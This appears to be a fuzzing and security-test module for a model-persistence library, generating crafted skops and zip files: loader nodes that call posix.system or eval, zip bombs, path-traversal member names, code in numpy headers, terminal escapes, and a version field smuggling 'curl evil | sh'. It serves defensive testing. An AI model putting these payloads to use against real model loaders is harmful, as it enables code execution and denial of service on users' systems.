"""Model files as somebody who wants to do harm would make them, and as bad luck would.

`crafted(n, seed)` yields names and contents: first every attack that is known by name, then
mutations of valid files: nodes exchanged, removed, renamed, given other numbers, arrays with other
headers, shapes, types and values. Checksums are right, so that nothing is refused for those.
"""

from __future__ import annotations

import copy
import io
import json
import warnings
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np
import pandas as pd
import scipy.sparse
import skops.io
from sklearn.compose import ColumnTransformer, TransformedTargetRegressor
from sklearn.ensemble import BaggingRegressor
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.impute import KNNImputer
from sklearn.linear_model import LinearRegression
from sklearn.neighbors import KNeighborsRegressor
from sklearn.pipeline import Pipeline, make_pipeline
from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
from sklearn.svm import SVR
from sklearn.tree import DecisionTreeRegressor

from robustscn import RobustSCNRegressor, RSCKDERegressor, RVFLRegressor
from robustscn.persistence.archive import packed
from robustscn.tables import table_pipeline

Node = dict[str, Any]
ABOUT = {"created": "2030-01-01T00:00:00+00:00", "versions": {"robustscn": "0.1.0"}, "info": {}}


def table(n: int = 60) -> pd.DataFrame:
    """Rows with every kind of column; what models are made from and asked to predict."""
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(
        {
            "flow": rng.random(n),
            "mill": rng.choice(["A", "B", "C", "D", "E"], n, p=[0.4, 0.3, 0.2, 0.05, 0.05]),
            "when": pd.Timestamp("2024-01-01") + pd.to_timedelta(np.arange(n), unit="h"),
        }
    )
    frame.loc[::7, "flow"] = np.nan
    return frame.assign(size=np.nan_to_num(frame["flow"]) + (frame["mill"] == "A"))


def inner(model: Any) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return skops.io.dumps(model)


def outer(content: bytes, **info: Any) -> bytes:
    """A file of ours around the bytes of a model, with a right checksum."""
    kept = {"targets": ["size"], "features": ["flow", "mill", "when"]} | info
    return packed(ABOUT | {"info": kept}, content)


def taken_apart(content: bytes) -> tuple[Node, dict[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as members:
        files = {name: members.read(name) for name in members.namelist()}
    return json.loads(files.pop("schema.json")), files


def put_together(schema: Any, files: dict[str, bytes], compression: int = 0) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as members:
        for name, content in files.items():
            members.writestr(name, content)
        members.writestr("schema.json", json.dumps(schema))
    return file.getvalue()


def array(value: Any) -> bytes:
    file = io.BytesIO()
    np.save(file, value, allow_pickle=False)
    return file.getvalue()


def header(shape: str, dtype: str, data: bytes = b"", version: bytes = b"\x01\x00") -> bytes:
    """An array file whose header says what it likes."""
    words = f"{{'descr': {dtype!r}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    words += b" " * (-(10 + len(words) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + version + len(words).to_bytes(2, "little") + words + data


def nodes(value: Any) -> Iterator[Node]:
    """All nodes of a tree, outermost first."""
    if isinstance(value, dict):
        if "__loader__" in value:
            yield value
        for part in value.values():
            yield from nodes(part)
    elif isinstance(value, list):
        for part in value:
            yield from nodes(part)


def of_class(tree: Node, name: str) -> list[Node]:
    return [node for node in nodes(tree) if node.get("__class__") == name]


def attributes(node: Node) -> dict[str, Node]:
    return node["content"]["content"]


def plain(value: Any) -> Node:
    return node("builtins", "str", "JsonNode", content=json.dumps(value))


def node(module: str, name: str, loader: str, **rest: Any) -> Node:
    return {"__module__": module, "__class__": name, "__loader__": loader, **rest}


def made_of(*values: Any) -> Node:
    return node("builtins", "tuple", "TupleNode", content=[plain(value) for value in values])


# Valid ones ------------------------------------------------------------------------------------


def valid() -> dict[str, bytes]:
    """Models to begin with, by name."""
    frame = table()
    X, y = np.nan_to_num(frame[["flow"]].to_numpy()), frame["size"].to_numpy()
    flagship = RobustSCNRegressor(n_networks=2, max_nodes=6, n_rounds=1, random_state=0)
    small = RVFLRegressor(6, random_state=0)
    features = ["flow", "mill", "when"]
    rare = ColumnTransformer(
        [("levels", OneHotEncoder(min_frequency=16, drop="first"), ["mill"])],
        sparse_threshold=0,
        remainder="drop",
    )
    return {
        "table": inner(table_pipeline(frame, features, flagship).fit(frame, y)),
        "encoder": inner(make_pipeline(rare, small).fit(frame, y)),
        "growing": inner(RSCKDERegressor(6, n_rounds=1, random_state=0).fit(X, y)),
        "target": inner(TransformedTargetRegressor(small, transformer=StandardScaler()).fit(X, y)),
    }


# Attacks ---------------------------------------------------------------------------------------


def attacks(touched: str) -> Iterator[tuple[str, bytes]]:
    """Attacks known by name; `touched` is a file that none of them may make."""
    yield from _by_type(touched)
    yield from _by_setting(touched)
    yield from _by_index()
    yield from _by_array()
    yield from _by_archive()
    yield from _by_words()


def _by_type(touched: str) -> Iterator[tuple[str, bytes]]:
    """Types that skops trusts, or builds when they are named."""
    rng = np.random.default_rng(0)
    X, y = rng.random((40, 3)), rng.random(40)
    frame = table(40)
    linear = LinearRegression().fit(X, y)
    wild = scipy.sparse.csr_matrix(linear.coef_[None, :])
    wild.indices = (wild.indices + 10**6).astype(np.int32)
    linear.coef_ = wild
    yield "sparse coefficients", inner(linear)
    neighbours = KNeighborsRegressor(3, algorithm="brute").fit(X, y)
    neighbours._y = neighbours._y[:2]
    yield "neighbours", inner(neighbours)
    support = SVR().fit(X, y)
    support.support_vectors_ = support.support_vectors_[:1]
    support._n_support = np.array([10**6, 10**6], dtype=np.int32)
    yield "support vectors", inner(support)
    yield "tree", inner(DecisionTreeRegressor().fit(X, y))
    for name, step in {
        "a step of neighbours": KNNImputer(),
        "a final step of scikit-learn": LinearRegression(),
    }.items():
        yield name, inner(make_pipeline(StandardScaler(), step).fit(X, y))
    bagging = BaggingRegressor(LinearRegression()).fit(X, y)
    yield "many processes", inner(bagging.set_params(n_jobs=300))
    vectors = CountVectorizer(input="filename")
    columns = ColumnTransformer([("words", vectors, "mill")])
    unfitted = Pipeline([("columns", columns), ("model", RVFLRegressor(3))])
    yield "names of files in the data", inner(unfitted)
    yield "a function", inner(make_pipeline(FunctionTransformer(np.abs), RVFLRegressor(3)))
    sparse = RVFLRegressor(5, random_state=0).fit(X, y)
    sparse.stray_ = scipy.sparse.eye(3).tocsr()
    yield "a sparse attribute", inner(sparse)
    seeded = RVFLRegressor(5, random_state=np.random.RandomState(0)).fit(X, y)
    yield "a random state", inner(seeded)
    masked = RVFLRegressor(5, random_state=0).fit(X, y)
    masked.stray_ = np.ma.masked_array([1.0, 2.0], [True, False])
    yield "a masked array", inner(masked)
    yield from _by_loader(touched, inner(make_pipeline(StandardScaler(), RVFLRegressor(3))))
    yield "unfitted", inner(table_pipeline(frame, ["flow", "mill"], RVFLRegressor(3)))


def _by_loader(touched: str, content: bytes) -> Iterator[tuple[str, bytes]]:
    """Nodes that run something while they are built, alone and as an attribute of a model."""
    system = node("posix", "system", "FunctionNode")
    command = made_of(f"touch {touched}")
    empty = node(
        "builtins",
        "dict",
        "DictNode",
        content={},
        key_types=node("builtins", "list", "ListNode", content=[]),
    )
    partial = {"func": system, "args": command, "kwds": empty, "namespace": plain(None)}
    harmful = {
        "open": node("io", "open", "ConstructorFromReduceNode", content=made_of(touched, "w")),
        "system": node("posix", "system", "ConstructorFromReduceNode", content=command),
        "partial": node("functools", "partial", "PartialNode", content=partial),
        "a method": node(
            "sklearn.pipeline", "Pipeline", "MethodNode", content={"func": "fit", "obj": plain(1)}
        ),
        "a caller": node(
            "operator", "methodcaller", "OperatorFuncNode", attrs=made_of("system", "touch")
        ),
        "our own writer": node(
            "robustscn.atomic",
            "write_whole",
            "ConstructorFromReduceNode",
            content=made_of(touched, "x"),
        ),
        "a type that runs": node("builtins", "eval", "TypeNode"),
        "an array of a function": node(
            "posix", "system", "NdArrayNode", type="numpy", file="a.npy"
        ),
        "a list of a function": node("posix", "system", "ListNode", content=[plain("true")]),
        "a tuple of a path": node("pathlib", "Path", "TupleNode", content=[plain(touched)]),
        "an object of a path": node("pathlib", "Path", "ObjectNode"),
        "a generator": node(
            "numpy.random",
            "Generator",
            "RandomGeneratorNode",
            content={
                "bit_generator": {"content": {"bit_generator": plain("seed")}},
                "seed_seq": empty,
            },
        ),
        "cached": node("builtins", "str", "CachedNode", __id__=1),
        "a tree": node("sklearn.tree._tree", "Tree", "TreeNode", __reduce__={"args": command}),
    }
    for name, each in harmful.items():
        yield f"{name} alone", put_together(each | {"protocol": 2}, {})
        schema, files = taken_apart(content)
        scaler = of_class(schema, "StandardScaler")[0]
        attributes(scaler)["copy"] = each
        yield f"{name} within", put_together(schema, files)
        for protocol in (0, 1):
            yield (
                f"{name} of protocol {protocol}",
                put_together(schema | {"protocol": protocol}, files),
            )


def _by_setting(touched: str) -> Iterator[tuple[str, bytes]]:
    for name, kind, setting, value in [
        ("jobs of columns", "ColumnTransformer", "n_jobs", plain(300)),
        ("all cores", "ColumnTransformer", "n_jobs", plain(-1)),
        ("jobs as a text", "ColumnTransformer", "n_jobs", plain("300")),
        ("jobs as true", "ColumnTransformer", "n_jobs", plain(True)),
        ("memory", "Pipeline", "memory", plain(touched)),
        ("steps that are none", "Pipeline", "steps", plain(None)),
        ("steps of texts", "Pipeline", "steps", made_of("a", "b")),
    ]:
        schema, files = taken_apart(_valid["table"])
        attributes(of_class(schema, kind)[0])[setting] = value
        yield name, put_together(schema, files)
    # A node that is shown as one value and built as another, which has the same number.
    schema, files = taken_apart(_valid["table"])
    attributes(of_class(schema, "Pipeline")[0])["verbose"] = plain(300) | {"__id__": 77}
    attributes(of_class(schema, "ColumnTransformer")[0])["n_jobs"] = plain(None) | {"__id__": 77}
    yield "two values of one number", put_together(schema, files)


def _by_index() -> Iterator[tuple[str, bytes]]:
    """Numbers that compiled code would follow out of the matrix it fills."""
    big = np.full(5, 10**7)
    for name, attribute, change in [
        ("mapping beyond", "_default_to_infrequent_mappings", big),
        ("mapping below", "_default_to_infrequent_mappings", -big),
        ("mapping too short", "_default_to_infrequent_mappings", np.zeros(1, dtype=int)),
        ("rare beyond", "_infrequent_indices", np.array([0, 10**7])),
        ("rare below", "_infrequent_indices", np.array([-(10**7), 1])),
        ("mapping of real numbers", "_default_to_infrequent_mappings", np.full(5, 1e7)),
    ]:
        schema, files = taken_apart(_valid["encoder"])
        for encoder in of_class(schema, "OneHotEncoder"):
            if attribute in attributes(encoder):
                held = attributes(encoder)[attribute]["content"][0]
                files[held["file"]] = array(change)
        yield name, put_together(schema, files)
    for name, attribute, value in [
        ("columns too many", "_n_features_outs", 10**6),
        ("columns too few", "_n_features_outs", 1),
        ("columns below zero", "_n_features_outs", -5),
        ("dropped below", "_drop_idx_after_grouping", -(10**6)),
        ("dropped beyond", "_drop_idx_after_grouping", 10**6),
    ]:
        schema, files = taken_apart(_valid["encoder"])
        for encoder in of_class(schema, "OneHotEncoder"):
            if attribute in attributes(encoder):
                held = attributes(encoder)[attribute]
                if held["__loader__"] == "NdArrayNode" and held["type"] == "numpy":
                    files[held["file"]] = array(np.array([value]))
                else:
                    held["content"] = [plain(value)]
        yield name, put_together(schema, files)
    schema, files = taken_apart(_valid["encoder"])
    for encoder in of_class(schema, "OneHotEncoder"):
        if "categories_" in attributes(encoder):
            held = attributes(encoder)["categories_"]["content"][0]
            held.clear()
            held |= node("numpy", "ndarray", "NdArrayNode", type="numpy", file="levels.npy")
    files["levels.npy"] = array(np.array([5.0, 4.0, 3.0, 2.0, 1.0]))
    yield "levels out of order", put_together(schema, files)


def _by_array() -> Iterator[tuple[str, bytes]]:
    """Headers that promise another array than there is."""
    sixteen = bytes(16)
    for name, content in {
        "a terabyte": header("(1000000000000,)", "<f8"),
        "more than there is": header("(1000000,)", "<f8", sixteen),
        "less than there is": header("(1,)", "<f8", sixteen),
        "lengths below zero": header("(-1, -2)", "<f8", sixteen),
        "lengths beyond numbers": header(f"({2**40}, {2**40})", "<f8", sixteen),
        "objects": header("(2,)", "|O", sixteen),
        "records": header("(1,)", "|V16", sixteen),
        "fields": header("(1,)", [("a", "<f8"), ("b", "<f8")], sixteen),  # type: ignore[arg-type]
        "complex numbers": header("(1,)", "<c16", sixteen),
        "dates": header("(2,)", "<M8[ns]", sixteen),
        "bytes": header("(2,)", "|S8", sixteen),
        "version nine": header("(2,)", "<f8", sixteen, version=b"\x09\x00"),
        "no array": b"import os",
        "empty": b"",
        "a shape that is code": header("__import__('os').system('true')", "<f8", sixteen),
        "a pickle": b"\x80\x04\x95" + bytes(20),
        "a real number": array(np.array(1.0)),
        "three dimensions": array(np.zeros((2, 2, 2))),
        "nothing": array(np.zeros((0, 0))),
        "not a number": array(np.full((8, 1), np.nan)),
        "infinite": array(np.full((8, 1), np.inf)),
        "texts": array(np.array(["a", "b"])),
        "whole numbers": array(np.arange(8)),
        "truth values": array(np.ones(8, dtype=bool)),
    }.items():
        for where in ("output_weights", "weights", "biases"):
            schema, files = taken_apart(_valid["growing"])
            for each in nodes(schema):
                held = each.get("content", {})
                inside = held.get("content", {}) if isinstance(held, dict) else {}
                if isinstance(inside, dict) and where in inside:
                    files[inside[where]["file"]] = content
            yield f"{where}: {name}", put_together(schema, files)


def _by_archive() -> Iterator[tuple[str, bytes]]:
    """Archives that unpack to far more than they are, or to two things at once."""
    schema, files = taken_apart(_valid["growing"])
    zeros = bytes(80_000_000)
    yield "bomb in a member", put_together(schema, files | {"a.npy": zeros}, zipfile.ZIP_DEFLATED)
    words = schema | {"note": " " * 55_000_000}
    yield "bomb in the schema", put_together(words, files, zipfile.ZIP_DEFLATED)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as members, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        members.writestr("schema.json", json.dumps(schema))
        members.writestr("schema.json", json.dumps(plain("other")))
    yield "two schemas", file.getvalue()
    yield "no member", put_together(schema, {})
    yield (
        "a file named beyond the folder",
        put_together(json.loads(json.dumps(schema).replace(".npy", "/../../x.npy")), files),
    )
    deep: Any = plain(1)
    for _ in range(400):
        deep = node("builtins", "list", "ListNode", content=[deep])
    yield "a deep tree", put_together(deep | {"protocol": 2}, {})
    for name, content in {
        "a schema of nothing": b"null",
        "a schema of a list": b"[]",
        "a schema of brackets": b"[" * 200_000,
        "a schema of a number": b"9" * 10_000,
        "a schema of bytes": bytes(range(256)),
    }.items():
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as members:
            members.writestr("schema.json", content)
        yield name, file.getvalue()


def _by_words() -> Iterator[tuple[str, bytes]]:
    """Text that is meant for the terminal, or for the reader's trust."""
    schema, files = taken_apart(_valid["growing"])
    for name, text in {"escapes": "\x1b[2J\x1b]0;owned\x07", "long": "x" * 100_000}.items():
        strange = node(text, text, "ObjectNode")
        yield f"a type of {name}", put_together(strange | {"protocol": 2}, {})
    for number, version in enumerate(
        ["9.9'; curl evil | sh; '", "\x1b[31m9", "9" * 5000, "", None, 9, ["9"]]
    ):
        content = packed(ABOUT | {"versions": {"robustscn": version}}, put_together(schema, files))
        yield f"version {number}", content
    for number, info in enumerate([[], None, "x", 5, {"targets": "\x1b"}, {"targets": [5]}]):
        yield f"info {number}", packed(ABOUT | {"info": info}, put_together(schema, files))


# Mutations -------------------------------------------------------------------------------------


def mutated(content: bytes, rng: np.random.Generator) -> bytes:
    """A valid file with one to four parts of it changed."""
    schema, files = taken_apart(content)
    for _ in range(rng.integers(1, 5)):
        _CHANGES[rng.integers(len(_CHANGES))](schema, files, rng)
    return put_together(schema, files)


def _any(items: Any, rng: np.random.Generator) -> Any:
    items = list(items)
    return items[rng.integers(len(items))]


def _exchange(schema: Node, _files: dict[str, bytes], rng: np.random.Generator) -> None:
    one, other = (_any(nodes(schema), rng) for _ in range(2))
    taken = copy.deepcopy(other)
    one.clear()
    one |= taken


def _revalue(schema: Node, _files: dict[str, bytes], rng: np.random.Generator) -> None:
    values = [e for e in nodes(schema) if e["__loader__"] == "JsonNode"]
    if values:
        odd = [None, True, -1, 0, 10**9, 1e308, float("nan"), "", "x" * 1000, "\x1b[31m", [1], {}]
        _any(values, rng)["content"] = json.dumps(_any(odd, rng))


def _rename(schema: Node, _files: dict[str, bytes], rng: np.random.Generator) -> None:
    one, other = (_any(nodes(schema), rng) for _ in range(2))
    for key in _any([("__class__", "__module__"), ("__loader__",), ("__id__",)], rng):
        one[key] = other.get(key)


def _remove(schema: Node, _files: dict[str, bytes], rng: np.random.Generator) -> None:
    holder = _any(nodes(schema), rng)
    content = holder.get("content")
    if isinstance(content, (list, dict)) and content:
        del content[_any(content if isinstance(content, dict) else range(len(content)), rng)]
    else:
        holder.pop(_any(holder, rng))


def _renumber(_schema: Node, files: dict[str, bytes], rng: np.random.Generator) -> None:
    if files:
        name = _any(files, rng)
        changed = bytearray(files[name])
        for place in rng.integers(len(changed), size=rng.integers(1, 9)):
            changed[place] ^= 1 << int(rng.integers(8))
        files[name] = bytes(changed)


def _reshape(_schema: Node, files: dict[str, bytes], rng: np.random.Generator) -> None:
    if files:
        shape = tuple(int(n) for n in rng.integers(0, 7, size=rng.integers(0, 4)))
        kind = _any([np.float64, np.float32, np.int64, np.bool_, np.uint8, np.float16], rng)
        files[_any(files, rng)] = array((rng.normal(size=shape) * 1e4).astype(kind))


def _cut(_schema: Node, files: dict[str, bytes], rng: np.random.Generator) -> None:
    if files:
        name = _any(files, rng)
        files[name] = files[name][: rng.integers(len(files[name]) + 1)]


def _swap_files(_schema: Node, files: dict[str, bytes], rng: np.random.Generator) -> None:
    if files:
        one, other = _any(files, rng), _any(files, rng)
        files[one], files[other] = files[other], files[one]


def _move_attribute(schema: Node, _files: dict[str, bytes], rng: np.random.Generator) -> None:
    holders = [e for e in nodes(schema) if e["__loader__"] == "DictNode" and e.get("content")]
    if holders:
        one, other = _any(holders, rng), _any(holders, rng)
        if isinstance(one["content"], dict) and isinstance(other.get("content"), dict):
            name = _any(one["content"], rng)
            if name in other["content"]:
                other["content"][name] = copy.deepcopy(one["content"][name])


_CHANGES: list[Callable[[Node, dict[str, bytes], np.random.Generator], None]] = [
    _exchange,
    _revalue,
    _rename,
    _remove,
    _renumber,
    _reshape,
    _cut,
    _swap_files,
    _move_attribute,
]

_valid: dict[str, bytes] = {}


def crafted(
    n: int, seed: int, touched: str, mutations_only: bool = False
) -> Iterator[tuple[str, bytes]]:
    """Yield `n` files: the attacks first, each in our archive too, then mutations."""
    if not _valid:
        _valid.update(valid())
    rng = np.random.default_rng(seed)
    made = 0
    for name, content in () if mutations_only else attacks(touched):
        for kind, whole in (("plain", content), ("ours", outer(content))):
            if made == n:
                return
            yield f"{name} ({kind})", whole
            made += 1
    while made < n:
        name = _any(_valid, rng)
        try:
            content = mutated(_valid[name], rng)
        except (KeyError, TypeError, AttributeError, ValueError, IndexError):
            continue  # an earlier change has left nothing for this one to hold on to
        yield f"{name}, mutation {made}", outer(content) if rng.random() < 0.7 else content
        made += 1
